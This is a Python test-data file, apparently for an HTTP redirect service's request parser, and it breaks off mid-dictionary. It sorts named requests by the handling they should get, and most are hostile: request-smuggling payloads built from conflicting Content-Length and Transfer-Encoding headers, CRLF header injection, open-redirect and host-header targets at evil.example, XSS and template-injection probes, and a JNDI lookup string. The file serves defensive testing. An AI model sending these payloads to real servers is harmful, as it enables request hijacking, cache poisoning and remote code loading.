"""Requests with names: what attackers, broken clients and usual ones send, each as short as can be.

The rule: a request has a name that says what it tries, and stands in the group of what must become of it.
Characters of a spelling are bytes. What a generated round finds to break the service is added here.
"""

from redirect.edge.limits import MAX_BODY_BYTES, MAX_HEADER_BYTES, MAX_HEADER_FIELDS, MAX_REQUEST_LINE_BYTES
from support.wire import head

Requests = dict[str, bytes]

# What none of the requests that hide it may get answered or logged.
SMUGGLED = head("GET /smuggled HTTP/1.1")

CHUNKED = "Transfer-Encoding: chunked"
LAST_CHUNK = b"0\r\n\r\n"
IN_A_CHUNK = b"%x\r\n%b\r\n0\r\n\r\n" % (len(SMUGGLED), SMUGGLED)


def post(*fields: str, body: bytes = b"", version: str = "HTTP/1.1") -> bytes:
    return head(f"POST / {version}", *fields) + body


def long(body: bytes) -> str:
    return f"Content-Length: {len(body)}"


def raw(text: str) -> bytes:
    return text.encode("latin-1")


# Spellings of the coding that are it, by whatever name it is introduced.
CODINGS = ["chunked", "Chunked", "CHUNKED", "\tchunked", "chunked ", "gzip, chunked", "identity, chunked", ",chunked"]

# Spellings that another party may read as it.
NO_CODINGS = [
    *["", " ", "chunk", "xchunked", "chunkedx", "x chunked", "chunked x", "chunked chunked", "cow", "identity", "gzip"],
    *["chunked, identity", "chunked, gzip", "chunked,chunked", "chunked,", "chunked;q=1", "chunked; a=b", "chunked\t"],
    *['"chunked"', "'chunked'", "[chunked]", "chun\\ked", "chun%6bed", "\\chunked", "=chunked", ":chunked"],
    *["\0chunked", "chunked\0", "\x01chunked", "\x0bchunked", "chunked\x0b", "\x0cchunked", "\x7fchunked"],
    *["\x85chunked", "\xa0chunked", "chunked\xa0", "ch\xfcnked", "\xef\xbb\xbfchunked", "\r\n chunked"],
    *["\r\n\tchunked", "\n chunked", "identity\r\n chunked", "chunked\r", "chunked\n", "chunked\rX: y"],
]

# Spellings of the field's name that are none.
NO_NAMES = [
    *["{} ", "{}\t", " {}", "\t{}", "{}\0", "\0{}", "{}\x0b", "{}\xa0", "{}\r", "{}\n", "{}\r\n ", "{}:\r\n ", '"{}"'],
    *["X: y\n{}", "X: y\r{}", "X: y\0{}", "X: y\r\n {}", "X\r\n{}", "{}\x7f", "{},", "({})", "{}/"],
]

NO_LENGTHS = [
    *["", " ", "+0", "-0", "-1", "0x0", "0b0", "0o0", "0x2f", "0a", "one", "1e1", "0.0", "0_0", "4 7", "4\t7", "0;a=b"],
    *["0,0", "0, 0", "0,47", "47,0", ",0", "0,", '"0"', "{0}", "0;", "\0000", "0\0", "\x0b0", "0\x0b", "0\x0c"],
    *["0\x7f", "0\xa0", "\xa00", "\xb2", "\xd9\xa0", "0\r", "0\n", "\r\n 0", "0\r\n 0", "0\r\n\t"],
    *["18446744073709551616", "9" * 99],
]
TWO_LENGTHS = [("0", "47"), ("47", "0"), ("0", "0"), ("47", "47"), ("0", "00"), ("", "0"), ("0", ""), ("0", "x")]

# Bodies that are no chunks, from their first byte on, and before SMUGGLED.
NO_CHUNKS = [
    *["0\n\n", "0\r\n\n", "0\n\r\n", "0\r\r\n", "0\r\n\r\r\n", "0\r\n\rX: y\r\n\r\n", "\r\n0\r\n\r\n", "\n0\r\n\r\n"],
    *["0 \r\n\r\n", " 0\r\n\r\n", "0\t\r\n\r\n", "\t0\r\n\r\n", "0x0\r\n\r\n", "-0\r\n\r\n", "+0\r\n\r\n"],
    *["0,\r\n\r\n", "0.0\r\n\r\n", "0_0\r\n\r\n", "g\r\n", "\r\n\r\n", ";\r\n\r\n", "0\0\r\n\r\n", "\0000\r\n\r\n"],
    *["0\x0b\r\n\r\n", "0;\r\n\r\n", "0;\n\r\n\r\n", "0;a\n\r\n\r\n", "0;a\r\r\n\r\n", "0;a=b\n\r\n\r\n"],
    *["0;a\0\r\n\r\n", "0;a\xff\r\n\r\n", '0;a="\n"\r\n\r\n', '0;a="\r\n"\r\n\r\n', '0;a="b\r\n\r\n', "0 ;a\r\n\r\n"],
    *["0;a=\r\r\n\r\n", "1\r\na0\r\n\r\n", "1\r\naa\r\n0\r\n\r\n", "1\r\na\n0\r\n\r\n", "1\r\na\r0\r\n\r\n"],
    *["2\r\na\r\n0\r\n\r\n", "1\na\r\n0\r\n\r\n", "1\ra\r\n0\r\n\r\n", "1\r\n\r\n0\r\n\r\n", "1\r\na\r\n\r\n0\r\n\r\n"],
    *["10000000000000000\r\na", "fffffffffffffffff\r\na", "1" + "0" * 99 + "\r\na", "0\r\nX: y\n\r\n"],
    *["0\r\nX: y\r\r\n", "0\r\nX: y\r\n\n", "0\r\n X: y\r\n\r\n", "0\r\nX : y\r\n\r\n", "0\r\nX\r\n\r\n"],
    *["0\r\nX: \0\r\n\r\n", "0\r\nX: y\r\n z\r\n\r\n", "0\r\n\0\r\n", "0\r\n: y\r\n\r\n"],
    *["0\r\nContent-Length: 47\r\n\r\n", "0\r\nTransfer-Encoding: chunked\r\n\r\n"],
]

# Chunks that are: empty ones with all that may be around them.
CHUNKS = [
    *["00\r\n\r\n", "0" * 99 + "\r\n\r\n", "0;a\r\n\r\n", "0;a=b\r\n\r\n", '0;a="b;c"\r\n\r\n'],
    *['0;a="\\""\r\n\r\n', "1;a\r\na\r\n0\r\n\r\n", "A\r\n" + "a" * 10 + "\r\n0\r\n\r\n"],
    *["a\r\n" + "\r\n0\r\n\r\n\r\n\r" + "\r\n0\r\n\r\n", "0\r\nX: y\r\n\r\n", "0\r\nX:\r\n\r\n"],
    *["0\r\nHost: evil.example\r\n\r\n", "0\r\nExpect: 100-continue\r\n\r\n"],
    *["0\r\nConnection: upgrade\r\nUpgrade: h2c\r\n\r\n", "0\r\nX-Redirect-Pool-ID: pool-b\r\n\r\n"],
    *["0\r\nConnection: keep-alive\r\n\r\n"],
]

# Heads with a line end, a fold or a NUL where none may be.
NO_HEADS = [
    "GET / HTTP/1.1\nHost: a\n\n",
    "GET / HTTP/1.1\nHost: a\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a\n\r\n",
    "GET / HTTP/1.1\r\nHost: a\r\n\n",
    "GET / HTTP/1.1\r\nHost: a\n\n",
    "GET / HTTP/1.1\rHost: a\r\n\r\n",
    "GET / HTTP/1.1\r\r\nHost: a\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a\r\r\n",
    "GET / HTTP/1.1\r\nHost: a\r\n\r\r\n",
    "GET / HTTP/1.1\r\nHost: a\rX: y\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a\r\n\rX: y\r\n\r\n",
    "GET / HTTP/1.1\r\n\rHost: a\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a\r\nX: y\rz\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a\r\nX: y\nContent-Length: 47\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a\r\nX: y\rContent-Length: 47\r\n\r\n",
    "GET /\r HTTP/1.1\r\nHost: a\r\n\r\n",
    "GET /\n HTTP/1.1\r\nHost: a\r\n\r\n",
    "GET\r\n/ HTTP/1.1\r\nHost: a\r\n\r\n",
    "GET / HTTP/1.1\r\n Host: a\r\n\r\n",
    "GET / HTTP/1.1\r\n\tHost: a\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a\r\n b\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a\r\n\tb\r\n\r\n",
    "GET / HTTP/1.1\r\nHost:\r\n a\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a\r\nX: y\r\n \r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a\r\nX: y\r\n Content-Length: 47\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a\r\nX\r\n : y\r\n\r\n",
    "\0GET / HTTP/1.1\r\nHost: a\r\n\r\n",
    "GET\0 / HTTP/1.1\r\nHost: a\r\n\r\n",
    "GET /\0 HTTP/1.1\r\nHost: a\r\n\r\n",
    "GET / HTTP/1.1\0\r\nHost: a\r\n\r\n",
    "GET / HTTP/1.1\r\n\0Host: a\r\n\r\n",
    "GET / HTTP/1.1\r\nHost\0: a\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: \0a\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a\0\r\n\r\n",
    "GET / HTTP/1.1\r\nHost: a\r\n\0\r\n",
    "GET / HTTP/1.1\r\nHost: a\r\nX: \0\r\n\r\n",
]

# Request lines that are none, or of another protocol or version.
NO_LINES = [
    *["GET", "GET ", "GET /", "GET / ", "GET / HTTP", "GET / HTTP/", "GET / HTTP/1", "GET / HTTP/1.", "GET / HTTP1.1"],
    *["GET / HTTP/1.1 ", "GET / HTTP/1.1x", "GET / HTTP/1.10", "GET / HTTP/01.1", "GET / HTTP/1,1", "GET / HTTP/+1.1"],
    *["GET / http/1.1", "GET / HTTPS/1.1", "GET / ICY/1.1", "GET / ICE/1.1", "GET / XTTP/1.1", "GET / H"],
    *["GET HTTP/1.1", "GET / HTTP/0.9", "GET / HTTP/1.2", "GET / HTTP/2.0", "GET / HTTP/3.0", "GET / HTTP/9.9"],
    *["PRI * HTTP/2.0", "G?T / HTTP/1.1", "GE T / HTTP/1.1", "BREW", "BREW /", "BREW / HTTP/1.0x", "BREW * HTTP/1.1 "],
    *["G\xcbT / HTTP/1.1", " GET / HTTP/1.1", "\tGET / HTTP/1.1", "\xef\xbb\xbfGET / HTTP/1.1"],
    *["\x80GET / HTTP/1.1", "GET\t/ HTTP/1.1", "GET /\tHTTP/1.1", "GET\x0b/ HTTP/1.1", "GET /\x0cHTTP/1.1"],
    *["GET\xa0/ HTTP/1.1", "GET / x HTTP/1.1", "GET /?x=y z HTTP/1.1", "GET /x\x7f HTTP/1.1", "PRI / HTTP/1.1"],
    *["HTTP/1.1 200 OK", "DESCRIBE / RTSP/1.0", "SETUP / HTTP/1.1", "SOURCE / ICE/1.0", "SOURCE / HTTP/1.1"],
    *["FLUSH / HTTP/1.1", "CONNECT asked.example:443 HTTP/1.1", "CONNECT / HTTP/1.1"],
    *["CONNECT http://asked.example/ HTTP/1.1", "GET * HTTP/1.1", "HEAD * HTTP/1.1", "OPTIONS ** HTTP/1.1"],
    *["OPTIONS *? HTTP/1.1", "GET asked.example HTTP/1.1"],
]

NO_HOSTS = [
    *["", " ", ",", "a,b", "a b", "a/b", "a?b", "a#b", "a\\b", "u@a", "u:p@a", "@a", "a@", ":80", "a:b", "a:0"],
    *["a:-1", "a:65536", "a:99999999", "a:80:80", "a:+80", "a: 80", "a:8\xb2", "[", "[]", "[::1", "::1", "[::1]x"],
    *["[::1%eth0]", "[::g]", "[127.0.0.1]", ".", "..", "a%00", "a%2eb", "a%0d%0ab", "%61", "a|b"],
    *["a\t\tb", "\xff", "\xc0\xae", "\xed\xa0\x80", "\xe2\x80\xae", "\xef\xbc\x8f", "a" * 2000],
]

ODD_HOSTS = [".a", "-a", "a-", "a;b", "a=b", "xn--", "a" * 64, "a." * 127 + "a"]

# Targets in which another party may see a line end, the end of a text, or another host.
TARGETS = [
    *["/%0d%0aX:%20y", "/%0D%0ASet-Cookie:%20a=b", "/%0a", "/%0d", "/%250d%250a", "/?a=%0d%0aX:%20y", "/#%0d%0aX:%20y"],
    *["/%E5%98%8A%E5%98%8DX:%20y", "/%u000d%u000aX:y", "/%c0%8d%c0%8a", "/%00", "/%00.html", "/?%00", "/a%00b?c%00d"],
    *["//evil.example", "//evil.example/x", "///evil.example", "////evil.example", "//evil.example:80"],
    *["//user@evil.example", "/\\evil.example", "/\\\\evil.example", "/\\/evil.example", "//\\evil.example"],
    *["/.//evil.example", "/%2f%2fevil.example", "/%2Fevil.example", "/%5cevil.example", "/%5C%5Cevil.example"],
    *["/%09/evil.example", "/..//evil.example", "/@evil.example", "//@evil.example", "/@@evil.example"],
    *["/:80@evil.example", "/a:b@evil.example", "/%40evil.example", "/?@evil.example", "/?//evil.example"],
    *["/#@evil.example", "/?http://evil.example", "/http://evil.example", "/.evil.example", "/;@evil.example"],
    *["/;evil.example", "/?next=//evil.example", "/javascript:alert(1)", "/%6a%61vascript:", "/data:,x", "/<script>"],
    *['/"onload="', "/'", "/`", "/{{7*7}}", "/${7*7}", "/%s%n", "/%", "/%zz", "/%u0000", "/..;/", "/../../etc", "/|"],
    *["/^", "/[", "/]", "/~", "/!$&'()*+,;=:@", "/?", "/??", "/?&", "/?a=b;c=d", "/a#b#c", "/%ff%fe", "/%e2%80%ae"],
    *["http://evil.example/", "http://evil.example//x", "https://evil.example", "http://evil.example?x"],
    *["HTTP://EVIL.EXAMPLE/x", "http://evil.example:8080/\\x", "http://[::1]/", "http://origin-1.evil.example/"],
    *["http://asked.example//evil.example"],
]

# Targets with bytes that none may have, or of another form.
NO_TARGETS = [
    *["/\x80", "/\xff", "/\xc3\xa9", "/?\xe2\x80\xae", "/\xe5\x98\x8a\xe5\x98\x8d", "/#\xff", "/\x01", "/\x1f"],
    *["/\x7f", "/\x0b", "?", "#", "\\x", "\\\\evil.example", "@evil.example", ".evil.example", "%2f", "evil.example"],
    *["evil.example:80", ";", "-", "javascript:x", "data:,x", "file:///x", "ftp://a/", "ws://a/", "gopher://a/"],
    *["http:", "http:/x", "http:x", "http:\\\\x", "http://", "http:///x", "http://?", "http://#", "http://@a/"],
    *["http://a@/", "http://u@a/", "http://u:p@a/x", "http://a@b@c/", "http://a:b/", "http://a:99999/"],
    *["http://a\\@evil.example/", "http://a#@evil.example/", "http://a b/", "http://\xff/", "http://[/"],
    *["http://[::1/", "http://%61/", "http://a%2fb/", "http://a,b/", "http://a:80:80/", "://a/"],
]

# Fields in which another party may see the end of a value, another host, or more than a name.
FIELDS = [
    *["X-Redirect-Pool-ID: ", "X-Redirect-Pool-ID: pool-b", "X-Redirect-Pool-ID: nope"],
    *["X-Redirect-Pool-ID: pool-b,pool-a", "X-Redirect-Pool-ID: pool-a%0d%0aX: y", "X-Redirect-Pool-ID: ../pool-b"],
    *["X-Redirect-Pool-ID: \xff\xfe", "X: \x80\xff", "X-Redirect-Pool-ID: __class__", "X-Redirect-Pool-ID: {0}"],
    *["X-Redirect-Pool-ID: \xf0\x9f\x92\xa9", "X_Redirect_Pool_ID: pool-b", "X-Forwarded-Host: evil.example"],
    *["Forwarded: host=evil.example;proto=javascript", "X-Host: evil.example", "X-Forwarded-Server: evil.example"],
    *["X-Original-URL: /evil", "X-Rewrite-URL: /evil", "X-HTTP-Method-Override: CONNECT"],
    *["X-Forwarded-Proto: javascript", "X-Forwarded-Proto: https", "X-Forwarded-Proto: https,http"],
    *["X-Forwarded-Proto: \xff", "X-Forwarded-For: 127.0.0.1", "X-Forwarded-For: evil\xff"],
    *["X-Forwarded-For: " + "1.1.1.1," * 99, "X-Forwarded-For: ::1%25", 'User-Agent: "\\', "User-Agent: \xff\xfe"],
    *["Referer: \xed\xa0\x80", "Referer: ${jndi:ldap://evil.example}", "Cookie: a=b;" * 99, "X-Request-ID: a\xff"],
    *["X-Request-ID: " + "a" * 129, 'X-Request-ID: ","status":200', "X-Request-ID: abc.DEF_1-2", "Content-Type: \xff"],
    *["Accept: */*", "TE: trailers", "Range: bytes=0-,0-,0-", "If-Match: *", "Max-Forwards: 0", "X:", "X: \t y \t"],
    *["Upgrade: h2c", "Expect: x", "Connection: x", "Connection: content-length", "Trailer: Content-Length", "A_B: c"],
    *["!#$%&'*+-.^_`|~9: x", "Transfer_Encoding: chunked", "Content_Length: 47", "X-Transfer-Encoding: chunked"],
    *["Content-Lengt: 47", "Transfer-Encodings: chunked"],
]

# One answer, and the smuggled request is what it was sent as: a body. The connection goes on.
READ_AS_BODY: Requests = (
    {
        "CL.0: a GET with a body": head("GET / HTTP/1.1", long(SMUGGLED)) + SMUGGLED,
        "CL.0: a HEAD with a body": head("HEAD / HTTP/1.1", long(SMUGGLED)) + SMUGGLED,
        "CL.0: an OPTIONS with a body": head("OPTIONS / HTTP/1.1", long(SMUGGLED)) + SMUGGLED,
        "CL.0: OPTIONS * with a body": head("OPTIONS * HTTP/1.1", long(SMUGGLED)) + SMUGGLED,
        "CL.0: a POST": post(long(SMUGGLED), body=SMUGGLED),
        "CL.0: a loop with a body": head("POST / HTTP/1.1", long(SMUGGLED), host="origin-1") + SMUGGLED,
        "CL.0: two requests in a body": post(long(SMUGGLED * 2), body=SMUGGLED * 2),
        "CL.0: Connection names the length": post("Connection: content-length", long(SMUGGLED), body=SMUGGLED),
        "CL.0: Upgrade without Connection": post("Upgrade: h2c", long(SMUGGLED), body=SMUGGLED),
        "CL.0: an expectation that is none": post("Expect: 200-ok", long(SMUGGLED), body=SMUGGLED),
        "CL.TE: a length, and chunks that were not announced": post(
            long(LAST_CHUNK + SMUGGLED), body=LAST_CHUNK + SMUGGLED
        ),
        "TE.0: a GET with chunks": head("GET / HTTP/1.1", CHUNKED) + IN_A_CHUNK,
        "TE.0: an OPTIONS with chunks": head("OPTIONS / HTTP/1.1", CHUNKED) + IN_A_CHUNK,
        "TE.CL: chunks that hold a request and a length": head("POST / HTTP/1.1", CHUNKED)
        + b"5c\r\n"
        + head("GET /smuggled HTTP/1.1", "Content-Length: 15").ljust(0x5C, b"x")
        + b"\r\n0\r\n\r\n",
    }
    | {
        f"lengths: {spelled[:70]!r} as length": post(f"Content-Length: {spelled}", body=SMUGGLED)
        for spelled in (f"0{len(SMUGGLED)}", f"\t{len(SMUGGLED)} \t", f"{len(SMUGGLED):099}", f"{len(SMUGGLED):05000}")
    }
    | {f"TE.TE: {coding!r}": head("POST / HTTP/1.1", f"Transfer-Encoding: {coding}") + IN_A_CHUNK for coding in CODINGS}
    | {
        f"TE.TE: {first!r}, and 'chunked' in a second field": post(
            f"Transfer-Encoding: {first}", CHUNKED, body=IN_A_CHUNK
        )
        for first in ("identity", "x")
    }
    | {
        f"TE.TE: {name} beside a length": post(f"{name}: chunked", long(IN_A_CHUNK), body=IN_A_CHUNK)
        for name in ("Transfer_Encoding", "X-Transfer-Encoding", "Transfer-Encodings", "Transfer.Encoding", "TE")
    }
    | {
        f"chunks: a request in one, then {chunk!r}": post(CHUNKED, body=IN_A_CHUNK[: -len(LAST_CHUNK)] + raw(chunk))
        for chunk in CHUNKS
    }
)

# One answer that ends the connection; what is behind it is unheard.
ANSWERED_LAST: Requests = {
    "the end: Connection: close": head("GET / HTTP/1.1", "Connection: close") + SMUGGLED,
    "the end: Connection: close, with a body": post("Connection: close", "Content-Length: 1", body=b"b" + SMUGGLED),
    "the end: close among others": head("GET / HTTP/1.1", "Connection: keep-alive, close") + SMUGGLED,
    "the end: close in a second field": head("GET / HTTP/1.1", "Connection: x", "Connection: CLOSE") + SMUGGLED,
    "the end: Proxy-Connection: close": head("GET / HTTP/1.1", "Proxy-Connection: close") + SMUGGLED,
    "the end: HTTP/1.0": head("GET / HTTP/1.0") + SMUGGLED,
    "the end: HTTP/1.0 with keep-alive": head("GET / HTTP/1.0", "Connection: keep-alive") + SMUGGLED,
    "the end: HTTP/1.0 without Host": head("GET / HTTP/1.0", host=None) + SMUGGLED,
    "the end: HTTP/1.0 with a body": post("Content-Length: 1", body=b"b" + SMUGGLED, version="HTTP/1.0"),
    "the end: close in a trailer": post(CHUNKED, body=b"0\r\nConnection: close\r\n\r\n" + SMUGGLED),
    "the end: close in a trailer for proxies": post(CHUNKED, body=b"0\r\nProxy-Connection: close\r\n\r\n" + SMUGGLED),
    "the end: Expect: 100-continue": post("Expect: 100-continue", long(SMUGGLED), body=SMUGGLED),
    "the end: Expect: 100-continue, no body": head("GET / HTTP/1.1", "Expect: 100-continue") + SMUGGLED,
    "the end: an expectation among others": head("GET / HTTP/1.1", "Expect: x, 100-CONTINUE") + SMUGGLED,
    "the end: an obfuscated expectation": post("Expect: y 100-continue", long(SMUGGLED), body=SMUGGLED),
    "the end: an expectation before chunks": post("Expect: 100-continue", CHUNKED, body=LAST_CHUNK + SMUGGLED),
    "the end: Upgrade: h2c": head("GET / HTTP/1.1", "Connection: upgrade", "Upgrade: h2c") + SMUGGLED,
    "the end: Upgrade: h2c with HTTP2-Settings": head(
        "GET / HTTP/1.1", "Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQ"
    )
    + SMUGGLED,
    "the end: Upgrade: websocket": head(
        "GET / HTTP/1.1", "Connection: upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13"
    )
    + SMUGGLED,
    "the end: Upgrade: websocket of a wrong version": head(
        "GET / HTTP/1.1", "Connection: upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 777"
    )
    + SMUGGLED,
    "the end: Upgrade with a body": post("Connection: upgrade", "Upgrade: x", long(SMUGGLED), body=SMUGGLED),
    "the end: Upgrade with chunks": post("Connection: upgrade", "Upgrade: x", CHUNKED, body=LAST_CHUNK + SMUGGLED),
    "the end: a length over the limit": post(f"Content-Length: {MAX_BODY_BYTES + 1}", body=SMUGGLED),
    "the end: the highest length": post("Content-Length: 18446744073709551615", body=SMUGGLED),
    "the end: a length over a signed one": post("Content-Length: 9223372036854775808", body=SMUGGLED),
}

# 4xx, or 505 for another version, and the end of the connection.
REFUSED: Requests = (
    {
        f"CL.TE: a length, then {coding!r}": post(
            long(LAST_CHUNK + SMUGGLED), f"Transfer-Encoding: {coding}", body=LAST_CHUNK + SMUGGLED
        )
        for coding in CODINGS + NO_CODINGS
    }
    | {
        f"TE.CL: {coding!r}, then a length": post(
            f"Transfer-Encoding: {coding}", "Content-Length: 5", body=LAST_CHUNK + SMUGGLED
        )
        for coding in CODINGS
    }
    | {
        "TE.CL: a length between two codings": post(CHUNKED, "Content-Length: 5", CHUNKED, body=LAST_CHUNK + SMUGGLED),
        "TE.CL: HTTP/1.0 with chunks": post(CHUNKED, body=LAST_CHUNK + SMUGGLED, version="HTTP/1.0"),
        "TE.CL: HTTP/1.0 with both": post(CHUNKED, "Content-Length: 5", body=LAST_CHUNK + SMUGGLED, version="HTTP/1.0"),
        "TE.CL: a GET with both": head("GET / HTTP/1.1", CHUNKED, "Content-Length: 5") + LAST_CHUNK + SMUGGLED,
        "TE.CL: a length of 0": post(CHUNKED, "Content-Length: 0", body=LAST_CHUNK + SMUGGLED),
        "TE.CL: Connection names the length": post(
            CHUNKED, "Connection: content-length", "Content-Length: 5", body=LAST_CHUNK + SMUGGLED
        ),
    }
    | {f"TE.TE: {coding!r}": post(f"Transfer-Encoding: {coding}", body=LAST_CHUNK + SMUGGLED) for coding in NO_CODINGS}
    | {
        f"TE.TE: {first!r} and {second!r}": post(
            f"Transfer-Encoding: {first}", f"Transfer-Encoding: {second}", body=LAST_CHUNK + SMUGGLED
        )
        for first, second in (
            ("chunked", "identity"),
            ("chunked", "x"),
            ("chunked", "chunked"),
            ("chunked", ""),
            ("", "chunked"),
        )
    }
    | {
        f"TE.TE: {name!r} as name": post(
            f"{name.format('Transfer-Encoding')}: chunked", long(LAST_CHUNK + SMUGGLED), body=LAST_CHUNK + SMUGGLED
        )
        for name in NO_NAMES
    }
    | {f"lengths: {length!r}": post(f"Content-Length: {length}", body=SMUGGLED) for length in NO_LENGTHS}
    | {
        f"lengths: {first!r} and {second!r}": post(
            f"Content-Length: {first}", f"content-length: {second}", body=SMUGGLED
        )
        for first, second in TWO_LENGTHS
    }
    | {
        f"lengths: {name!r} as name": post(f"{name.format('Content-Length')}: {len(SMUGGLED)}", body=SMUGGLED)
        for name in NO_NAMES
    }
    | {f"chunks: {chunk!r}": post(CHUNKED, body=raw(chunk) + SMUGGLED) for chunk in NO_CHUNKS}
    | {f"line ends, folds and NUL: {sent!r}": raw(sent) + SMUGGLED for sent in NO_HEADS}
    | {f"request lines: {line!r}": head(line) + SMUGGLED for line in NO_LINES}
    | {f"hosts: {host[:70]!r}": head("GET / HTTP/1.1", host=host) + SMUGGLED for host in NO_HOSTS}
    | {
        "hosts: none": head("GET / HTTP/1.1", host=None) + SMUGGLED,
        "hosts: two": head("GET / HTTP/1.1", "Host: asked.example") + SMUGGLED,
        "hosts: two, the second is odd": head("GET / HTTP/1.1", "hOST: evil.example") + SMUGGLED,
        "hosts: a bad one behind an absolute target": head("GET http://a/ HTTP/1.1", host="u@h") + SMUGGLED,
        "hosts: none behind an absolute target": head("GET http://a/ HTTP/1.1", host=None) + SMUGGLED,
    }
    | {f"hosts: {name!r} as name": head("GET / HTTP/1.1", f"{name.format('Host')}: b") + SMUGGLED for name in NO_NAMES}
    | {f"targets: {target!r}": head(f"GET {target} HTTP/1.1") + SMUGGLED for target in NO_TARGETS}
    | {
        "limits: a request line": head(f"GET /{'a' * MAX_REQUEST_LINE_BYTES} HTTP/1.1") + SMUGGLED,
        "limits: a header section": head("GET / HTTP/1.1", f"X: {'a' * MAX_HEADER_BYTES}") + SMUGGLED,
        "limits: fields": head("GET / HTTP/1.1", *["X: 1"] * MAX_HEADER_FIELDS) + SMUGGLED,
        "limits: trailers": post(CHUNKED, body=b"0\r\n" + b"X: 1\r\n" * (MAX_HEADER_FIELDS + 1) + b"\r\n" + SMUGGLED),
        "limits: a name": head("GET / HTTP/1.1", f"{'X' * MAX_HEADER_BYTES}: y") + SMUGGLED,
        "limits: an extension": post(CHUNKED, body=b"0;" + b"a" * 2 * MAX_HEADER_BYTES + b"\r\n\r\n" + SMUGGLED),
        "limits: a chunk's length": post(CHUNKED, body=b"0" * 2 * MAX_HEADER_BYTES + b"\r\n\r\n" + SMUGGLED),
        "limits: blank lines": b"\r\n" * MAX_HEADER_BYTES + SMUGGLED,
        "limits: no HTTP": b"x" * 1000 + SMUGGLED,
        "other protocols: TLS": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + SMUGGLED,
        "other protocols: HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SMUGGLED,
        "other protocols: PROXY": b"PROXY TCP4 192.0.2.1 192.0.2.2 1 80\r\n" + SMUGGLED,
        "other protocols: PROXY 2": b"\r\n\r\n\x00\r\nQUIT\n!\x11\x00\x0c" + SMUGGLED,
        "other protocols: SSH": b"SSH-2.0-x\r\n" + SMUGGLED,
        "other protocols: SMTP": b"EHLO a\r\n" + SMUGGLED,
        "other protocols: Redis": b"*1\r\n$4\r\nPING\r\n" + SMUGGLED,
    }
)

# Nothing is answered yet, and what comes belongs to the request that has begun.
UNFINISHED: Requests = {
    "unfinished: nothing": b"",
    "unfinished: a blank line": b"\r\n",
    "unfinished: a method": b"GE",
    "unfinished: a target": b"GET /smugg",
    "unfinished: a version": b"GET /smuggled HTTP/1.",
    "unfinished: a line": b"GET /smuggled HTTP/1.1\r\n",
    "unfinished: a name": b"GET /smuggled HTTP/1.1\r\nHos",
    "unfinished: a value": b"GET /smuggled HTTP/1.1\r\nHost: asked.exam",
    "unfinished: a head but for its end": SMUGGLED[:-2],
    "unfinished: a head but for a byte": SMUGGLED[:-1],
    "unfinished: chunks": head("POST / HTTP/1.1", CHUNKED),
    "unfinished: a chunk's length": post(CHUNKED, body=b"2"),
    "unfinished: a chunk": post(CHUNKED, body=b"ff\r\n" + SMUGGLED),
    "unfinished: the highest chunk": post(CHUNKED, body=b"ffffffffffffffff\r\n" + SMUGGLED),
    "unfinished: a chunk over a signed length": post(CHUNKED, body=b"8000000000000000\r\n" + SMUGGLED),
    "unfinished: chunks but for the last": post(CHUNKED, body=IN_A_CHUNK[: -len(LAST_CHUNK)]),
    "unfinished: trailers": post(CHUNKED, body=b"0\r\nX: " + SMUGGLED[:14]),
    "unfinished: chunks but for a byte": post(CHUNKED, body=IN_A_CHUNK[:-1]),
}

# What clients send that mean no harm, and what looks odd and is none.
ANSWERED: Requests = (
    {
        "usual: a browser": head(
            "GET /a?b=c HTTP/1.1",
            "User-Agent: Mozilla/5.0",
            "Accept: text/html,*/*;q=0.8",
            "Accept-Encoding: gzip, deflate, br",
            "Connection: keep-alive",
            "Cookie: a=b",
            "Upgrade-Insecure-Requests: 1",
        ),
        "usual: curl": head("GET / HTTP/1.1", "User-Agent: curl/8.14.1", "Accept: */*"),
        "usual: nginx": head("GET / HTTP/1.1", "X-Forwarded-For: 192.0.2.1", "X-Forwarded-Proto: https"),
        "usual: a form": post("Content-Type: application/x-www-form-urlencoded", "Content-Length: 3", body=b"a=b"),
        "usual: an empty body": post("Content-Length: 0"),
        "usual: two requests": head("GET /1 HTTP/1.1") + head("GET /2 HTTP/1.1"),
        "usual: ten requests": b"".join(head(f"GET /{n} HTTP/1.1") for n in range(10)),
        "usual: one of each": head("GET / HTTP/1.1") + head("OPTIONS * HTTP/1.1") + head("HEAD / HTTP/1.1"),
        "usual: OPTIONS *": head("OPTIONS * HTTP/1.1"),
        "usual: a loop": head("GET / HTTP/1.1", host="origin-1"),
        "usual: a HEAD in a loop": head("HEAD / HTTP/1.1", host="ORIGIN-1.:80"),
        "odd: two blanks behind the method": head("GET  / HTTP/1.1"),
        "odd: two blanks before the version": head("GET /  HTTP/1.1"),
        "odd: a blank line before": b"\r\n" + head("GET / HTTP/1.1"),
        "odd: a bare CR before": b"\r" + head("GET / HTTP/1.1"),
        "odd: a bare LF before": b"\n" + head("GET / HTTP/1.1"),
        "odd: no blank behind a colon": b"GET / HTTP/1.1\r\nHost:a\r\n\r\n",
        "odd: a tab behind a colon": b"GET / HTTP/1.1\r\nHost:\ta\r\n\r\n",
        "odd: a host without its port": head("GET / HTTP/1.1", host="a:"),
        "odd: a host in capitals": b"GET / HTTP/1.1\r\nHOST: A.EXAMPLE.\r\n\r\n",
        "odd: a host in IPv6": head("GET / HTTP/1.1", host="[::ffff:127.0.0.1]:8080"),
        "odd: an internationalised host": raw("GET / HTTP/1.1\r\nHost: b\xc3\xbccher.example\r\n\r\n"),
        **{f"odd: the host {host[:70]!r}": head("GET / HTTP/1.1", host=host) for host in ODD_HOSTS},
        "odd: another host behind an absolute target": head("GET http://b/ HTTP/1.1", host="evil.example"),
